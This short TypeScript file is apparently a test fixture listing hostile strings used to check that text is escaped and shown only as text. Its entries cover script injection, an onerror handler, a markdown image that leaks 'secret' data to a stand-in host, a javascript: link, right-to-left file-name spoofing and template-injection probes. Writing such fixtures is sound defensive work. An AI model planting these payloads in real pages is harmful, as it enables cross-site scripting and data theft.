/** What callers, models and providers may write anywhere: none of it may be more than text. */
export const HOSTILE_TEXTS = {
  html: '<b>bold</b><img src="https://third.example/x.png" onerror="document.title=\'owned\'">',
  script: '</script><script>document.title="owned"</script>',
  markdown: '![picture](https://third.example/leak?data=secret) [link](javascript:document.title="owned")',
  rightToLeft: '\u202egnp.exe\u202c \u2067abc\u2066',
  quotes: `"'\`&lt;&#x27;\${1+1}{{7*7}}`,
  long: 'x'.repeat(10_000),
} as const;

/** The same where a length is limited, as for names. */
export const hostileNames = (maxLength: number): string[] =>
  Object.values(HOSTILE_TEXTS).map((text) => text.slice(0, maxLength));
